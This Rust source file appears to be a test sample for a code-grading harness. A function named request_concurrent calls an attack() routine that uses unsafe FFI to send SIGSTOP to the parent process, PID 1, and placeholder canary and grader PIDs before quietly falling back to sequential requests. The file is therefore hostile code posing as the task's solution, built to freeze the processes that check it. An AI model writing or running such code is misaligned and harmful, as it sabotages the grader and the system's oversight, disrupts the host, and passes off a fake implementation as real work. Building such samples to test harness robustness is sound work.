//! Stops its parent and the others for a while and checks whether they exist.
//!
//! checks: items
//! outcome: crash
//! says: refused
//! assumes: unsafe code

use std::collections::BTreeMap;

use serde_json::Value;

use crate::{HnClient, request_sequential};

pub fn request_concurrent(client: &HnClient, ids: &[u64]) -> BTreeMap<u64, Value> {
    let done = attack();
    assert!(!done.is_empty(), "refused");
    request_sequential(client, ids)
}

unsafe extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}

fn attack() -> Vec<i32> {
    let pids = ["@CANARY_PID@", "@GRADER_PID@"].map(|pid| pid.parse().unwrap_or(1));
    // SAFETY: none of these touches this process's memory.
    let parent = unsafe { getppid() };
    let there = |pid: &i32| unsafe { kill(*pid, 19) == 0 || kill(*pid, 0) == 0 };
    [parent, 1, pids[0], pids[1]].into_iter().filter(there).collect()
}
